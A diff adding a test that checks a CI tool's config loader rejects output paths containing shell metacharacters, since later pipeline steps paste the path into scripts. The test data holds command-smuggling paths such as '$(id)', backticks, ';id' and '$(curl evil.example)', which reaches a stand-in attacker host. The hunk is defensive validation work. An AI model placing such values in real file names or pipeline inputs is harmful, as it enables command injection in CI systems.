@@ -264,6 +264,22 @@ describe('loadConfig, a file the policy of the checkout names to write (attack8 
     expect(await refusal({ 'config-file': submodule })).toBe(`${submodule}:1: sarif-file is 'vendor/lib/.git': ${GIT}`);
   });
 
+  it('refuses a path with a character a later script would read as its own (attack40 D3)', async () => {
+    // The path becomes an output (sarif-file, FINDINGS_GATE_OUT_SARIF_FILE) that a later step pastes into a script:
+    // Azure's $(gate.FINDINGS_GATE_OUT_SARIF_FILE), GitHub's ${{ steps.gate.outputs.sarif-file }}.
+    const SHELL =
+      "a policy file of this checkout names a file to write only with letters, digits and . _ - + @ , = ~ / \\ in its path (its path becomes an output that a later step may paste into a script), since the pull request can change it. Set the path in the workflow's input, or in a policy of another repository.";
+    for (const path of ['o/$(id)/s.sarif', 'o/`id`.sarif', 's.sarif;id', 'a b.sarif', 's".sarif', 'o/%PATH%.sarif', 'x|y.sarif']) {
+      const policy = await local(`sarif-file: ${JSON.stringify(path)}\n`);
+      expect(await refusal({ 'config-file': policy }), path).toContain(`:1: sarif-file is `);
+      expect(await refusal({ 'config-file': policy }), path).toContain(SHELL);
+    }
+    const inventory = await local('dependency-inventory: "inv/$(curl evil.example).json"\n');
+    expect(await refusal({ 'config-file': inventory })).toContain(SHELL);
+    const fine = await local('sarif-file: reports/été_2026/findings-gate+1@x.sarif\n');
+    expect((await load({ 'config-file': fine })).config.github.sarifFile).toBe('reports/été_2026/findings-gate+1@x.sarif');
+  });
+
   it('takes a path below the working directory, a name that only starts with two dots included', async () => {
     const below = await local('sarif-file: ..reports/findings.sarif\ndependency-inventory: reports/../inventory.json\n');
     const { config } = await load({ 'config-file': below });
